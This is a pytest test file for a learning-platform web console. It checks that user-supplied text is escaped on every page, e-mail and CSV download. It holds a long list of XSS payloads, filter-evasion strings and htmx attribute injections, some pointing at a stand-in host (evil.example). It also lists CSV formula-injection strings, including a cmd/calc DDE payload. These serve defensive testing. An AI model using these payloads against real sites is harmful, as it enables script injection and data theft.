"""Whatever people and programs write is text on every page: it never becomes an element, an attribute or an address."""

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from urllib.parse import quote
from uuid import uuid4

import lxml.html
import pytest
from markupsafe import escape

from hub.console.letters import LETTERS, render
from hub.db import EVERY_TENANT
from hub.db.tables import AuditEvent
from hub.lti.services.platforms import Platforms
from hub.lti.spec.platform import PlatformDetails
from hub.oauth.services.branding import Branding
from hub.oauth.services.clients import Clients, NewClient
from hub.oauth.services.personal_tokens import PersonalTokens
from hub.oauth.services.providers import NewProvider, Providers
from hub.oauth.storage.tables import Passkey
from hub.privacy.services.jobs import PrivacyJobs
from hub.scorm.services.cohorts import Cohorts
from hub.scorm.services.consents import Consents
from hub.scorm.services.learners import Learners
from hub.scorm.services.mentors import Mentors
from hub.scorm.services.packages import Changes, Packages
from hub.scorm.services.registrations import Registrations
from hub.xapi_lrs.services.credentials import Credentials
from hub.xapi_lrs.services.statements import Statements
from hub.xapi_lrs.services.stores import Stores
from tests.support.courses import add_course
from tests.support.imports import imported
from tests.support.people import make_account

PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></textarea></select><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<hx-get='/' hx-trigger='load'>",
    '" hx-get="/sign-out" hx-trigger="load" x="',
    # Other ways to begin a script, and cases and spaces that naive filters miss.
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script>",
    "<script\t>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script type=module>import('//evil.example')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert`1`</script>",
    "</script><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Elements that run when they are shown, loaded, failed or used.
    *(
        f"<{element} {event}=alert(1)>"
        for element, event in (
            ("img src=x:x", "ONERROR"),
            ("image src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("video src=x", "onerror"),
            ("video><source", "onerror"),
            ("body", "onload"),
            ("body", "onpageshow"),
            ("body", "onhashchange"),
            ("iframe", "onload"),
            ("object data=x", "onerror"),
            ("embed src=x", "onload"),
            ("input autofocus", "onfocus"),
            ("select autofocus", "onfocus"),
            ("textarea autofocus", "onfocus"),
            ("button autofocus", "onfocus"),
            ("keygen autofocus", "onfocus"),
            ("details open", "ontoggle"),
            ("marquee", "onstart"),
            ("div style=animation-name:x", "onanimationstart"),
            ("div style=transition:1s", "ontransitionend"),
            ("div", "onpointerover"),
            ("div", "onwheel"),
            ("p tabindex=0", "onkeydown"),
            ("a href=#", "onclick"),
            ("dialog open", "onclose"),
            ("link rel=stylesheet href=x", "onerror"),
            ("track default src=x", "onerror"),
            ("svg><animate", "onbegin"),
            ("svg><set", "onend"),
            ("x contenteditable", "oninput"),
        )
    ),
    # Addresses that run.
    *(
        f'<a href="{address}">x</a>'
        for address in (
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            " javascript:alert(1)",
            "javascript&colon;alert(1)",
            "&#106;avascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
        )
    ),
    "<form action=javascript:alert(1)><button>",
    "<button formaction=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<object data=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<math href=javascript:alert(1)>x",
    # Ways out of attributes, comments, styles, and what would steal instead of run.
    "' onmouseover='alert(1)",
    '"onmouseover="alert(1)',
    '" style="background:url(//evil.example)" x="',
    '" src="//evil.example/x.png" x="',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<img src='//evil.example/?",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<textarea>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<frameset onload=alert(1)>",
    "<applet code=x onerror=alert(1)>",
    "\u202e\u2066<b>alert(1)",
]


def packed(payloads, most=180):
    """Several payloads in each text, as many as a name may hold."""
    texts = [""]
    for payload in payloads:
        if len(texts[-1]) + len(payload) > most:
            texts.append("")
        texts[-1] += f"{payload} " if len(texts[-1]) + len(payload) < most else payload
    return [text.strip() or text for text in texts]


#: What files are sent as: nothing that a browser would run.
DATA = {"text/csv", "application/json", "application/jsonl", "application/zip", "text/plain", "text/event-stream"}
#: Attributes by which our own pages make htmx act, and where they may lead.
ACTING = ("hx-get",)


def faults_of(page: str) -> list[str]:
    """What on the page could run, load or lead somewhere that is not ours."""
    tree = lxml.html.document_fromstring(page)
    faults = []
    for element in tree.iter(lxml.etree.Element):
        for name, value in element.attrib.items():
            is_address = name in {"href", "src", "action", "formaction", *ACTING}
            leads_away = is_address and not value.startswith(("/", "#", "http://localhost:8000/"))
            if name.startswith("on") or name in {"style", "srcdoc", "autofocus"} or (leads_away and value):
                faults.append(f"{element.tag} {name}={value}")
        if element.tag in {"iframe", "object", "embed", "base", "style", "svg", "img", "math"} and not _is_tile(
            element
        ):
            faults.append(element.tag)
        if element.tag == "script" and not element.get("src"):
            faults.append("inline script")
    return faults


def _is_tile(element):
    """Whether this is the picture that we draw for a package without one: a square and a letter."""
    is_ours = element.tag == "svg" and element.get("class", "").startswith("thumbnail tile-")
    return is_ours and [child.tag for child in element] == ["rect", "text"] and not element.xpath(".//*/*")


#: Pages whose addresses name what cannot be made here; each has a test that shows what people wrote on it.
ELSEWHERE = {
    "console.sign_in_with": "leads to a provider",
    "console.sign_in_back": "comes from a provider",
    "console.sign_out_at": "leads to a provider",
    "console.reset_password": "needs a link; shows an e-mail address",
    "console.confirm_address": "needs a link; shows an e-mail address",
    "console.set_up": "before there is anybody",
    "console.forgot_password": "without e-mail it is a refusal",
    "console.account_address": "without e-mail it is a refusal",
    "console.privacy_certificate": "JSON, and only of an erasure",
    "console.asset_file": "our own files",
    "console.account_passkey": "needs a passkey, which would be asked for at every sign-in; see below",
}


class Written:
    """A tenant in which a text stands wherever people and programs may write, and every page of it."""

    def __init__(self, hub, system, app, account):
        self.hub, self.system, self.app, self.account = hub, system, app, account

    def write(self, text):
        """A thing of every kind; returns the values of the arguments by which pages name them."""
        hub, system = self.hub, self.system
        plain = "".join(filter(str.isprintable, text))  # Some names may have no tabs and the like.
        person = make_account(hub, system, "author", "mentor", name=text).person
        user = replace(system, kind="user", id=str(self.account.person.id), name=text)
        client, _ = hub.service(Clients).create(system, NewClient(text, ("packages:read",)))
        store = hub.service(Stores).create(system, text[:100])
        credential = hub.service(Credentials).create(system, store.name, ["state"], text).credential
        learner = hub.service(Learners).ensure(system, text, text, text, text)
        hub.service(Mentors).assign(system, learner.id, str(person.id))
        cohort = hub.service(Cohorts).create(system, plain[:100])
        hub.service(Cohorts).add_member(system, cohort.id, learner.id)
        hub.service(Cohorts).add_leader(system, cohort.id, str(self.account.person.id))
        package = add_course(hub.db, system.tenant_id, text)
        hub.service(Packages).change(system, str(package), Changes(text, text, [text[:50]]))
        registration = hub.service(Registrations).ensure(system, learner.id, package)
        hub.service(Registrations).begin_attempt(system, registration.id)
        own = hub.service(Learners).ensure(system, "https://own.example", text, text)
        hub.service(Mentors).connect_account(system, own.id, str(self.account.person.id))
        job = imported(hub, system, _zip(text), f"{text}.zip")
        platform = hub.service(Platforms).add(system, _platform(plain))
        provider = NewProvider("oidc", plain, "https://login.example", plain[:100], "s" * 20, default_roles=("author",))
        statement = _store_statements(hub, system, text)
        hub.service(PersonalTokens).create(user, text, ("packages:read",), 7)
        hub.service(Consents).change(system, text, is_asked=False)
        hub.service(Branding).change(system, name=text)
        jobs = hub.service(PrivacyJobs)
        privacy_job = jobs.export(system, jobs.look_up(system, str(learner.id)))
        _record(hub, system, text)
        return {
            "package_id": package,
            "number": 1,
            "job_id": job.id,
            "registration_id": registration.id,
            "learner_id": learner.id,
            "platform_id": platform.id,
            "provider_id": hub.service(Providers).create(system, provider).id,
            "store_id": store.id,
            "credential_id": credential.id,
            "statement_id": statement,
            "client_id": client.client_id,
            "user_id": person.id,
            "cohort_id": cohort.id,
            "tenant_id": system.tenant_id,
            "slug": hub.service(Branding).look(system.tenant_id).slug,
            "privacy_job_id": privacy_job.id,
            "own_registration_id": hub.service(Registrations).ensure(system, own.id, package).id,
            "table": "items",
        }

    def pages(self, named, *, of_one_thing):
        """The addresses of all pages that the URL map knows, about one thing or about all."""
        adapter = self.app.url_map.bind("localhost")
        for rule in self.app.url_map.iter_rules():
            is_page = rule.endpoint.startswith("console.") and "GET" in rule.methods
            if not is_page or rule.endpoint in ELSEWHERE or bool(rule.arguments) is not of_one_thing:
                continue
            things = named | self._others(rule.endpoint, named)
            missing = rule.arguments - things.keys() - {"key"}
            assert not missing, f"{rule.endpoint} is a new page: make what its address names ({missing}) here"
            yield adapter.build(rule.endpoint, {name: things[name] for name in rule.arguments})

    @staticmethod
    def _others(endpoint, named):
        if endpoint.startswith(("console.privacy_", "console.account_data")):
            return {"job_id": named["privacy_job_id"]}
        if endpoint.startswith("console.courses"):
            return {"registration_id": named["own_registration_id"]}
        return {}


@pytest.fixture
def written(hub, system, client, admin):
    return Written(hub, system, client.application, admin)


def _zip(text):
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr("imsmanifest.xml", f"<manifest identifier={text!r}><{text}></manifest>")
        archive.writestr(f"{text.replace('/', '_')}.html", text)
    return body.getvalue()


def _platform(text):
    base = "https://lms.example"
    return PlatformDetails(
        base,
        f"{uuid4()}",
        f"{base}/a",
        f"{base}/t",
        f"{base}/j",
        (text.encode("ascii", "ignore").decode()[:200],),
        text,
    )


def _store_statements(hub, system, text):
    statement = {
        "actor": {"name": text, "account": {"homePage": "https://lms.example/", "name": text}},
        "verb": {"id": "http://adlnet.gov/expapi/verbs/responded", "display": {"en": text}},
        "object": {
            "id": "https://a.example/x",
            "definition": {
                "name": {"en": text},
                "description": {"en": text},
                "extensions": {"https://e.example": text},
            },
        },
        "result": {"response": text},
    }
    principal = system.__class__(
        system.tenant_id,
        system.kind,
        system.id,
        system.name,
        system.actions,
        hub.service(Stores).find(system.tenant_id, "default").id,
    )
    return hub.service(Statements).store(principal, json.dumps(statement).encode())[0]


def _record(hub, system, text):
    with hub.db.unit_of_work(EVERY_TENANT) as work:
        work.session.add(
            AuditEvent(
                id=hub.ports.ids.uuid(),
                tenant_id=system.tenant_id,
                actor_kind="user",
                actor_id=text,
                actor_name=text,
                action=text,
                target=text,
                address=text,
                request_id=text,
                details={text: text},
            )
        )


TEXTS = packed(PAYLOADS)


@pytest.mark.parametrize("start", range(0, len(TEXTS), 6))
def test_what_was_written_is_text_on_every_page(client, written, start):
    assert len(set(PAYLOADS)) >= 100
    found = [written.write(text) for text in TEXTS[start : start + 6]]
    asked = [path for named in found for path in written.pages(named, of_one_thing=True)]
    asked += [*written.pages(found[0], of_one_thing=False)]
    asked += [f"/privacy?q={found[0]['learner_id']}", f"/learners?q={quote(TEXTS[start][:100])}"]
    shown = 0
    for path in asked:
        with client.get(path, follow_redirects=False) as answer:
            assert answer.status_code < 500, path
            if answer.mimetype == "text/html" and answer.status_code == 200:
                assert faults_of(answer.text) == [], path
                shown += any(escape(text[:20]) in answer.text for text in TEXTS[start : start + 6])
    assert shown > 60, "the texts are on the pages"


def test_the_name_of_a_passkey_is_text_on_its_page(hub, system, client, admin):
    for text in TEXTS:
        passkey = Passkey(
            id=uuid4(),
            tenant_id=system.tenant_id,
            user_id=admin.person.id,
            credential_id=uuid4().hex,
            public_key=b"x",
            sign_count=0,
            is_synced=False,
            name=text,
        )
        with hub.db.unit_of_work(EVERY_TENANT) as work:
            work.session.add(passkey)
        for path in (f"/account/passkeys/{passkey.id}", "/account"):
            answer = client.get(path)
            assert answer.status_code == 200
            assert faults_of(answer.text) == [], path
            assert escape(text[:20]) in answer.text, path


@pytest.mark.parametrize("payload", [*PAYLOADS[1:7:2], "\0", "٣", "-1", "9" * 40])
def test_what_stands_in_the_address_is_text_on_every_page(client, admin, payload):
    fields = ("q", "tag", "status", "state", "action", "actor", "verb", "activity", "registration", "since", "store")
    fields += ("cursor", "done", "next", "package", "learner", "platform", "after", "live", "part", "version")
    for path in ("/packages", "/jobs", "/registrations", "/statements", "/deliveries", "/people", "/audit", "/stores"):
        for query in ({name: payload} for name in fields):
            answer = client.get(path, query_string=query)
            assert answer.status_code < 500, (path, query)
            assert faults_of(answer.text) == [], (path, query)
    assert faults_of(client.get(f"/{payload}", headers={"Accept": "text/html"}).text) == []


@pytest.mark.parametrize("kind", LETTERS)
def test_what_was_written_is_text_in_every_letter(kind):
    """A letter has the same elements and attributes whatever stands in it, and a subject of one line."""

    def written(text):
        facts = dict.fromkeys(("email", "tenant", "extra"), text) | {"link": "https://hub.example/x"}
        letter = render(kind, "de", facts)
        elements = lxml.html.document_fromstring(letter.html).iter(lxml.etree.Element)
        return letter, [(element.tag, dict(element.attrib)) for element in elements]

    harmless = written("x")[1]
    for text in TEXTS:
        letter, elements = written(text)
        assert elements == harmless, text
        assert "\n" not in letter.subject


#: What spreadsheets take for a formula (OWASP, CSV injection), and what ends a line or a field early.
FORMULAS = ('=HYPERLINK("https://evil.example")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=2+2")


def rows_of(answer):
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


def test_no_download_runs_in_a_spreadsheet_or_a_browser(client, written):
    """Each file that a page gives out, of things that are called by formulas and by payloads."""
    found = [written.write(text) for text in (*FORMULAS, TEXTS[0])]
    of_all = [*written.pages(found[0], of_one_thing=False)]
    asked = [*written.pages(found[0], of_one_thing=True), *of_all]
    asked += [f"{path}?format={kind}" for path in of_all for kind in ("csv", "jsonl")]
    tables, marked = 0, set()
    for path in asked:
        with client.get(path) as answer:
            if answer.mimetype == "text/html" or answer.status_code != 200:
                continue
            assert answer.headers["X-Content-Type-Options"] == "nosniff", path
            named = answer.headers.get("Content-Disposition", "")
            assert "\n" not in named
            assert answer.mimetype in DATA, (path, answer.mimetype)
            if answer.mimetype == "text/csv":
                assert named.startswith("attachment"), path
                cells = {cell for row in rows_of(answer) for cell in row}
                assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], path
                marked |= {cell for cell in cells if cell.startswith("'")}
                tables += 1
    assert tables > 3
    assert {f"'{formula}" for formula in FORMULAS[:4]} <= marked, "what was written is in the files, marked as text"


def test_nothing_in_an_export_of_a_person_runs_in_a_spreadsheet(hub, system, written):
    for formula in FORMULAS[:4]:
        named = written.write(formula)
        jobs = hub.service(PrivacyJobs)
        jobs.run(system.tenant_id, named["privacy_job_id"])
        with jobs.download(system, named["privacy_job_id"])[1] as pieces:
            archive = zipfile.ZipFile(io.BytesIO(b"".join(pieces)))
        for name in archive.namelist():
            assert re.fullmatch(r"[\w./-]+", name), name
            if name.endswith(".csv"):
                rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
                cells = {cell for row in rows for cell in row}
                assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], (name, formula)
